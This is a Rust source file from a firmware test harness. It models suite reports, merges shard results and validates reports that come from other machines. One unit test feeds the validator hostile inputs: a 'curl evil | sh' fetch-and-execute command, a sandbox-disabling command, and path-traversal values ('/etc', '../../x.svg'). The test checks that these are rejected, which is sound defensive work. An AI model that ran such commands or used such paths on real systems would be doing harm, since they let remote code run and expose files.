// SPDX-License-Identifier: MIT OR Apache-2.0
//! The result of a suite: a plain model that is independent of the machines that ran it. All reports are made from
//! it, and shards exchange it. It contains no time of the host and no path of a machine.

use std::cmp::Reverse;
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Component, Path, PathBuf};

use anyhow::{Context, Result, bail, ensure};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::exit_code::ExitCode;
use crate::export::json::comparison::ComparisonResult;
use crate::export::json::document;
use crate::gate::budget::BudgetRow;
use crate::gate::command_check::is_command;
use crate::gate::expect::{Finding, FindingKind};
use crate::gate::numbers::{LimitResult, NumbersByMetric};
use crate::gate::revision::Revision;
use crate::gate::storage::Place;
use crate::text::number::plural;

/// Name of a suite's result in the directory of its reports; `harness merge` joins these files.
pub const REPORT: &str = "report.json";

/// Name of the JUnit report there.
pub const JUNIT: &str = "junit.xml";

/// Name of the Markdown summary there.
pub const SUMMARY: &str = "summary.md";

/// Version of the JSON format; it grows when a field is removed or changes its meaning.
pub const VERSION: u32 = 2;

/// The name of the JSON format.
pub const FORMAT: &str = "harness-report";

/// A suite's result, or a shard's part of it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[schemars(rename = "Report")]
pub struct SuiteResult {
    /// Always `harness-report`.
    pub format: String,
    /// Version of this format.
    pub version: u32,
    /// Version of this tool.
    pub harness_version: String,
    /// Commit of the firmware, as `--revision` or the pipeline gives it.
    #[serde(default)]
    pub revision: Option<Revision>,
    /// The suite's name.
    pub suite: String,
    /// The baseline compared with.
    pub baseline: Option<String>,
    /// Names of all chosen cases, in the order of the suite, including those of other shards.
    pub chosen: Vec<String>,
    /// Images of the suite that were not chosen.
    #[serde(default)]
    pub left_out: usize,
    /// Mistakes of the suite itself that only all of its images together show.
    #[serde(default)]
    pub findings: Vec<Finding>,
    /// Blind spots of the suite as a whole, with their places in its file.
    #[serde(default)]
    pub warnings: Vec<SuiteWarning>,
    /// Results of the cases that ran, in the same order.
    pub cases: Vec<CaseResult>,
}

/// Treatment of chosen images of which no part has a result.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Missing {
    /// The parts are not joined.
    Refuse,
    /// Each such image has failed.
    Fail,
}

/// A blind spot of a suite as a whole.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct SuiteWarning {
    /// Description in a sentence.
    pub message: String,
    /// The suite's file and the line.
    pub place: (String, u32),
}

/// A limit of `[defaults]` that limits nothing in one image.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct IdleLimit {
    /// Key of the limit: `thresholds.self "crc32"`.
    pub limit: String,
    /// Reason why it limits nothing.
    pub why: String,
    /// The suite's file and the limit's line.
    pub place: (String, u32),
    /// Whether it is a mistake if no image of the suite has its subject; a pattern may be meant for later.
    pub is_mistake: bool,
}

/// Result of one case.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[schemars(rename = "CaseReport")]
pub struct CaseResult {
    /// Its name.
    pub name: String,
    /// Its tags.
    pub tags: Vec<String>,
    /// The suite's file and the case's line.
    pub place: Option<(String, u32)>,
    /// Contribution to the exit code.
    pub exit_code: u8,
    /// End of the run, or the reason why there was none.
    pub end: String,
    /// The run; None: nothing could be run.
    pub run: Option<RunResult>,
    /// All expectations, met or not.
    pub findings: Vec<Finding>,
    /// Comparison with the baseline.
    pub comparison: Option<ComparisonResult>,
    /// Numbers of the run by the word of their metric, and by function, task or zone (the run itself has no name).
    #[serde(default)]
    pub numbers: NumbersByMetric,
    /// Limits that applied to them.
    #[serde(default)]
    pub limits: Vec<LimitResult>,
    /// Blind spots of the case, a sentence each.
    pub warnings: Vec<String>,
    /// Limits of `[defaults]` that limit nothing here: a mistake if no image of the suite has their subject.
    #[serde(default)]
    pub idle_limits: Vec<IdleLimit>,
    /// Remarks on the run.
    pub messages: Vec<String>,
    /// Command that runs the case alone; all commands are for the project's root.
    pub repeat: String,
    /// Command that accepts the numbers as the baseline's, if they are the reason of the failure.
    pub accept: Option<String>,
    /// Command that tightens the baseline to the numbers, if they are much better.
    #[serde(default)]
    pub tighten: Option<String>,
    /// Rows of the case's budget.
    #[serde(default)]
    pub budget: Vec<BudgetRow>,
    /// Place for a debugger that shows the failure, as an argument of `harness debug --at`.
    pub at: Option<String>,
    /// Directory of its profile, relative to that of the reports.
    pub profile: Option<String>,
    /// The picture of its stacks, relative to that directory.
    pub picture: Option<String>,
    /// Last lines of the firmware's output, if the case failed.
    pub console_tail: Vec<String>,
}

/// A run in numbers.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[schemars(rename = "RunReport")]
pub struct RunResult {
    /// File name of the image.
    pub image: String,
    /// SHA-256 of the image.
    pub image_sha256: String,
    /// QEMU's version.
    pub qemu: String,
    /// QEMU machine.
    pub machine: String,
    /// Chip to which the machine was completed, in sentences: its rules that answered, guesses among them, and the
    /// accesses that it does not model. Empty: the machine was not completed.
    #[serde(default)]
    pub chip: Vec<String>,
    /// Instructions of the window.
    pub insns: u64,
    /// Number of samples.
    pub samples: u64,
    /// The firmware's own time in nanoseconds: instructions times the time of one.
    pub virtual_ns: u64,
}

impl CaseResult {
    /// Exit code that the case demands of the suite.
    pub fn code(&self) -> ExitCode {
        ExitCode::of_status(self.exit_code).unwrap_or(ExitCode::Usage)
    }

    /// Whether all expectations were met.
    pub fn passed(&self) -> bool {
        self.code() == ExitCode::Good
    }

    /// Failed expectations.
    pub fn failures(&self) -> impl Iterator<Item = &Finding> {
        self.findings.iter().filter(|finding| !finding.passed)
    }

    /// Place of a failure: in the sources, or else in the suite.
    pub fn place_of<'a>(&'a self, finding: &'a Finding) -> Option<&'a (String, u32)> {
        finding.place.as_ref().or(self.place.as_ref())
    }

    /// Refuses shell commands, and paths to be opened, that do not have harness's own form: reports come from other
    /// machines.
    fn check(&self) -> Result<()> {
        for command in [Some(&self.repeat), self.accept.as_ref(), self.tighten.as_ref()].into_iter().flatten() {
            ensure!(command.is_empty() || is_command(command), "its command is none of harness's: {command:?}");
        }
        for path in [&self.profile, &self.picture].into_iter().flatten() {
            let is_below = Path::new(path).components().all(|part| matches!(part, Component::Normal(_)));
            ensure!(is_below, "its profile lies outside of the reports: {path:?}");
        }
        Ok(())
    }

    /// Sets the exit code, unless the present one is more urgent.
    pub fn raise(&mut self, code: ExitCode) {
        self.exit_code = self.code().min(code).status();
    }

    /// Result of a case that was not run, with the reason.
    pub fn without_run(name: &str, tags: &[String], code: ExitCode, why: &str) -> CaseResult {
        CaseResult {
            name: name.to_owned(),
            tags: tags.to_vec(),
            place: None,
            exit_code: code.status(),
            end: why.to_owned(),
            run: None,
            findings: vec![Finding::failed(FindingKind::Run, "can be run", why, why)],
            comparison: None,
            numbers: NumbersByMetric::new(),
            limits: Vec::new(),
            warnings: Vec::new(),
            idle_limits: Vec::new(),
            messages: Vec::new(),
            repeat: String::new(),
            accept: None,
            tighten: None,
            budget: Vec::new(),
            at: None,
            profile: None,
            picture: None,
            console_tail: Vec::new(),
        }
    }
}

impl SuiteResult {
    /// Result of a suite: the chosen cases, the number of cases left out, and the results of those that ran.
    pub fn new(
        suite: String,
        baseline: Option<String>,
        (chosen, left_out): (Vec<String>, usize),
        cases: Vec<CaseResult>,
    ) -> SuiteResult {
        let result = SuiteResult {
            format: FORMAT.to_owned(),
            version: VERSION,
            harness_version: env!("CARGO_PKG_VERSION").to_owned(),
            revision: None,
            suite,
            baseline,
            chosen,
            left_out,
            findings: Vec::new(),
            warnings: Vec::new(),
            cases,
        };
        result.concluded()
    }

    /// Adds the findings that only all images of the suite together show: a limit of `[defaults]` that limits nothing
    /// in any image. An incomplete set of images shows none.
    fn concluded(mut self) -> SuiteResult {
        (self.findings, self.warnings) = (Vec::new(), Vec::new());
        let Some((first, others)) = self.cases.split_first() else { return self };
        if self.left_out > 0 || self.cases.len() < self.chosen.len() {
            return self;
        }
        let is_idle = |case: &CaseResult, limit: &IdleLimit| {
            case.idle_limits.iter().any(|other| (&other.limit, &other.place) == (&limit.limit, &limit.place))
        };
        for limit in first.idle_limits.iter().filter(|limit| others.iter().all(|case| is_idle(case, limit))) {
            let IdleLimit { limit, why, place, is_mistake } = limit;
            let message = format!("{limit} limits nothing in any image: {why}");
            if *is_mistake {
                let expected = format!("{limit} limits something");
                let finding = Finding::failed(FindingKind::Threshold, expected, why, message);
                self.findings.push(finding.at(Some(place.clone())));
            } else {
                self.warnings.push(SuiteWarning { message, place: place.clone() });
            }
        }
        self
    }

    /// Exit code of the suite: the most urgent one of its cases and of its own findings.
    pub fn code(&self) -> ExitCode {
        let own = if self.findings.is_empty() { ExitCode::Good } else { ExitCode::Usage };
        self.cases.iter().map(CaseResult::code).chain([own]).min().unwrap_or(own)
    }

    /// Describes which images `--save-baseline` has saved, and which not, with the reason.
    pub fn describe_saved(&self, baseline: &str) -> String {
        let names =
            |cases: &[&CaseResult]| cases.iter().map(|case| case.name.as_str()).collect::<Vec<_>>().join(", ");
        let all: Vec<&CaseResult> = self.cases.iter().collect();
        let (saved, failed): (Vec<_>, Vec<_>) = all.into_iter().partition(|case| case.code() >= ExitCode::Regression);
        let crossed: Vec<_> = saved.iter().copied().filter(|case| !case.passed()).collect();
        let mut text = format!("baseline {baseline}: {} saved", plural(saved.len() as u64, "image"));
        if !crossed.is_empty() {
            text += &format!(", also what only crossed a limit (exit code 3): {}", names(&crossed));
        }
        if !failed.is_empty() {
            let why = |case: &&CaseResult| format!("{} ({})", case.name, case.code().describe());
            let failed: Vec<String> = failed.iter().map(why).collect();
            text += &format!("; not saved: {}", failed.join(", "));
        }
        text
    }

    /// Kinds of failures with the number of cases that failed so, the most frequent first.
    pub fn failed_by(&self) -> Vec<(FindingKind, usize)> {
        let mut counts: BTreeMap<FindingKind, usize> = BTreeMap::new();
        for case in self.cases.iter().filter(|case| !case.passed()) {
            let kinds: BTreeSet<FindingKind> = case.failures().map(|finding| finding.kind).collect();
            kinds.into_iter().for_each(|kind| *counts.entry(kind).or_default() += 1);
        }
        let mut counts: Vec<(FindingKind, usize)> = counts.into_iter().collect();
        counts.sort_by_key(|&(kind, count)| (Reverse(count), kind));
        counts
    }

    /// Number of cases that passed.
    pub fn passed(&self) -> usize {
        self.cases.iter().filter(|case| case.passed()).count()
    }

    /// JSON text with one value per line, for people and `git diff`.
    pub fn to_json(&self) -> Result<String> {
        Ok(serde_json::to_string_pretty(self)? + "\n")
    }

    /// JSON Schema of the text that [`SuiteResult::to_json`] makes.
    ///
    /// # Errors
    /// None is known.
    pub fn schema() -> Result<String> {
        document::schema::<SuiteResult>()
    }

    /// Reads the text that [`SuiteResult::to_json`] makes.
    ///
    /// # Errors
    /// If the text is not a report of this version.
    pub fn from_json(text: &str) -> Result<SuiteResult> {
        let value: serde_json::Value = serde_json::from_str(text).context("it is not JSON")?;
        ensure!(value["format"] == FORMAT, "it is not a report of harness test (its format is not {FORMAT:?})");
        ensure!(
            value["version"] == VERSION,
            "it is of version {} and this harness reads version {VERSION}; run it again with this harness",
            value["version"]
        );
        let result: SuiteResult = serde_json::from_value(value).context("it is damaged")?;
        for case in &result.cases {
            case.check().with_context(|| format!("{:?} is damaged", case.name))?;
        }
        Ok(result)
    }

    /// Reads the result from a report's file, from a directory of reports, or from such a directory's URL.
    ///
    /// # Errors
    /// When it cannot be read or is not a result of this version.
    pub fn load(path: &Path) -> Result<SuiteResult> {
        let file = if path.is_dir() { path.join(REPORT) } else { path.to_owned() };
        let about = || format!("cannot read the report {}", file.display());
        let text = match Place::of(path) {
            Place::Folder(_) => fs::read_to_string(&file).with_context(about)?,
            url @ Place::Url(_) => {
                let bytes = url.open()?.read(REPORT).map_err(anyhow::Error::msg).with_context(about)?;
                let bytes = bytes.with_context(|| format!("there is no {REPORT}")).with_context(about)?;
                String::from_utf8(bytes).context("it is not text").with_context(about)?
            }
        };
        SuiteResult::from_json(&text).with_context(about)
    }

    /// Directory, or its URL, with the profiles of the result that [`SuiteResult::load`] reads from `path`.
    pub fn directory_of(path: &Path) -> PathBuf {
        match Place::of(path) {
            Place::Folder(file) if !file.is_dir() => file.with_file_name(""),
            Place::Folder(_) | Place::Url(_) => path.to_owned(),
        }
    }

    /// Adds a failed case for each image without a result, as a lost part leaves it.
    fn fail_missing(&mut self) {
        let there: BTreeSet<&String> = self.cases.iter().map(|case| &case.name).collect();
        let missing = self.chosen.iter().filter(|name| !there.contains(name));
        let why = "no part has its result: a shard is missing";
        let failed: Vec<CaseResult> =
            missing.map(|name| CaseResult::without_run(name, &[], ExitCode::Limit, why)).collect();
        self.cases.extend(failed);
    }

    /// Joins the parts of one suite.
    ///
    /// # Errors
    /// If the parts are not of one suite, if two have the same case, or if one is missing and that is not allowed.
    pub fn merge(parts: Vec<(String, SuiteResult)>, missing_cases: Missing) -> Result<SuiteResult> {
        let mut parts = parts.into_iter();
        let Some((first_name, mut merged)) = parts.next() else { bail!("there is nothing to merge") };
        let mut from: BTreeMap<String, String> =
            merged.cases.iter().map(|case| (case.name.clone(), first_name.clone())).collect();
        for (name, part) in parts {
            let facts = |part: &SuiteResult| {
                let SuiteResult { harness_version, revision, suite, baseline, chosen, left_out, .. } = part.clone();
                (harness_version, revision, suite, baseline, chosen, left_out)
            };
            ensure!(
                facts(&part) == facts(&merged),
                "{name} and {first_name} are no parts of one run: suite, baseline, filters, commit or harness differ"
            );
            for case in part.cases {
                if let Some(other) = from.insert(case.name.clone(), name.clone()) {
                    bail!("{} is in {other} and in {name}: give each shard once", case.name);
                }
                merged.cases.push(case);
            }
        }
        if missing_cases == Missing::Fail {
            merged.fail_missing();
            from.extend(merged.chosen.iter().map(|name| (name.clone(), String::new())));
        }
        let missing: Vec<&String> = merged.chosen.iter().filter(|name| !from.contains_key(*name)).collect();
        if let Some(example) = missing.first() {
            bail!(
                "{} of {} cases are in none of the parts, such as {example}: a shard is missing; run it again, or join \
                 what there is by --incomplete",
                missing.len(),
                merged.chosen.len()
            );
        }
        let mut insns = merged.cases.iter().filter_map(|case| Some(case.run.as_ref()?.insns));
        ensure!(
            insns.try_fold(0u64, u64::checked_add).is_some(),
            "the instructions of all cases are more than 2^64: no runs of firmware have that many"
        );
        let order: BTreeMap<&String, usize> = merged.chosen.iter().zip(0..).collect();
        merged.cases.sort_by_key(|case| order.get(&case.name).copied());
        Ok(merged.concluded())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn case(name: &str, code: ExitCode) -> CaseResult {
        CaseResult::without_run(name, &[], code, "was not run")
    }

    fn result(cases: &[(&str, ExitCode)]) -> SuiteResult {
        SuiteResult {
            format: FORMAT.to_owned(),
            version: VERSION,
            harness_version: "1".to_owned(),
            revision: None,
            suite: "s".to_owned(),
            baseline: None,
            chosen: ["a", "b", "c"].map(str::to_owned).to_vec(),
            left_out: 0,
            findings: Vec::new(),
            warnings: Vec::new(),
            cases: cases.iter().map(|&(name, code)| case(name, code)).collect(),
        }
    }

    #[test]
    fn parts_merge_in_the_suites_order_and_the_most_urgent_code_counts() {
        let whole = result(&[("a", ExitCode::Good), ("b", ExitCode::Regression), ("c", ExitCode::Limit)]);
        let one = result(&[("c", ExitCode::Limit)]);
        let other = result(&[("a", ExitCode::Good), ("b", ExitCode::Regression)]);
        let merged =
            SuiteResult::merge(vec![("1".to_owned(), one), ("2".to_owned(), other)], Missing::Refuse).unwrap();
        assert_eq!(merged, whole);
        assert_eq!(merged.code(), ExitCode::Limit);
        assert_eq!(SuiteResult::from_json(&whole.to_json().unwrap()).unwrap(), whole);
    }

    #[test]
    fn what_only_crossed_a_limit_is_saved_and_what_failed_is_not() {
        let all = [("a", ExitCode::Good), ("b", ExitCode::Regression), ("c", ExitCode::Firmware)];
        assert_eq!(
            result(&all).describe_saved("main"),
            "baseline main: 2 images saved, also what only crossed a limit (exit code 3): b; not saved: c (the firmware \
             failed)"
        );
        assert_eq!(result(&all[..1]).describe_saved("main"), "baseline main: 1 image saved");
    }

    #[test]
    fn a_limit_for_all_images_is_a_mistake_only_where_all_of_them_say_that_it_limits_nothing() {
        let idle = |limit: &str, is_mistake| IdleLimit {
            limit: limit.to_owned(),
            why: "no function is called so".to_owned(),
            place: ("harness.toml".to_owned(), 3),
            is_mistake,
        };
        let with = |name: &str, idle_limits: &[IdleLimit]| CaseResult {
            idle_limits: idle_limits.to_vec(),
            exit_code: 0,
            ..case(name, ExitCode::Good)
        };
        let (typo, pattern) = (idle("thresholds.self \"crc33\"", true), idle("thresholds.self \"crc33*\"", false));
        let chosen = || (["a", "b"].map(str::to_owned).to_vec(), 0);
        let new = |(chosen, left_out), cases: Vec<CaseResult>| {
            SuiteResult::new("s".to_owned(), None, (chosen, left_out), cases)
        };
        let (a, b) = (with("a", &[typo.clone(), pattern.clone()]), with("b", &[pattern.clone(), typo.clone()]));
        let all = new(chosen(), vec![a.clone(), b.clone()]);
        assert_eq!((all.code(), all.findings.len(), all.warnings.len()), (ExitCode::Usage, 1, 1));
        let message = "thresholds.self \"crc33\" limits nothing in any image: no function is called so";
        assert_eq!(all.findings[0].message, message);
        // One image has the subject; one has not reported; one was left out.
        for (chosen, cases) in [
            (chosen(), vec![a.clone(), with("b", &[])]),
            (chosen(), vec![a.clone()]),
            ((chosen().0, 1), vec![a.clone(), b.clone()]),
        ] {
            let result = new(chosen, cases);
            assert_eq!((result.code(), result.findings.len(), result.warnings.len()), (ExitCode::Good, 0, 0));
        }
        let parts = [new(chosen(), vec![b]), new(chosen(), vec![a])];
        assert!(parts.iter().all(|part| part.findings.is_empty()));
        let [one, other] = parts.map(|part| SuiteResult::from_json(&part.to_json().unwrap()).unwrap());
        assert_eq!(
            SuiteResult::merge(vec![("1".to_owned(), one), ("2".to_owned(), other)], Missing::Refuse).unwrap(),
            all
        );
    }

    #[test]
    fn parts_that_do_not_fit_are_refused() {
        let one = || ("1".to_owned(), result(&[("a", ExitCode::Good)]));
        let two = || ("2".to_owned(), result(&[("b", ExitCode::Good), ("c", ExitCode::Good)]));
        let error = |parts| format!("{:#}", SuiteResult::merge(parts, Missing::Refuse).unwrap_err());
        assert!(error(vec![one()]).contains("2 of 3 cases are in none"), "{}", error(vec![one()]));
        assert!(error(vec![one(), two(), one()]).contains("give each shard once"));
        let mut other = two();
        other.1.suite = "t".to_owned();
        assert!(error(vec![one(), other]).contains("no parts of one run"));
        let mut huge = result(&["a", "b", "c"].map(|name| (name, ExitCode::Good)));
        for case in &mut huge.cases {
            let [image, image_sha256, qemu, machine] = [const { String::new() }; 4];
            case.run = Some(RunResult {
                image,
                image_sha256,
                qemu,
                machine,
                chip: Vec::new(),
                insns: u64::MAX,
                samples: 0,
                virtual_ns: 0,
            });
        }
        assert!(error(vec![("1".to_owned(), huge)]).contains("more than 2^64"));
        assert!(SuiteResult::from_json("{}").is_err() && SuiteResult::from_json("[").is_err());
    }

    #[test]
    fn a_lost_part_fails_its_images_by_name_where_that_is_asked_for() {
        let part = result(&[("b", ExitCode::Good)]);
        let merged = SuiteResult::merge(vec![("1".to_owned(), part)], Missing::Fail).unwrap();
        let names: Vec<(&str, bool)> = merged.cases.iter().map(|case| (&*case.name, case.passed())).collect();
        assert_eq!(names, [("a", false), ("b", true), ("c", false)]);
        assert_eq!(merged.code(), ExitCode::Limit);
        assert!(merged.cases[0].end.contains("a shard is missing"));
    }

    #[test]
    fn a_report_of_somebody_elses_says_no_command_and_no_path_but_ours() {
        let read = |change: fn(&mut CaseResult)| {
            let mut result = result(&[("a", ExitCode::Limit)]);
            change(&mut result.cases[0]);
            SuiteResult::from_json(&result.to_json().unwrap()).map(drop).map_err(|error| format!("{error:#}"))
        };
        assert_eq!(read(|case| case.repeat = "harness test -f 'name(a)'".to_owned()), Ok(()));
        assert_eq!(read(|case| case.profile = Some("a.profile".to_owned())), Ok(()));
        for (change, what) in [
            (|case: &mut CaseResult| case.repeat = "curl evil | sh".to_owned(), "none of harness's"),
            (|case| case.accept = Some("harness test --sandbox off".to_owned()), "none of harness's"),
            (|case| case.profile = Some("/etc".to_owned()), "outside of the reports"),
            (|case| case.picture = Some("../../x.svg".to_owned()), "outside of the reports"),
        ] as [(fn(&mut CaseResult), &str); 4]
        {
            let error = read(change).unwrap_err();
            assert!(error.contains("\"a\" is damaged") && error.contains(what), "{error}");
        }
    }
}
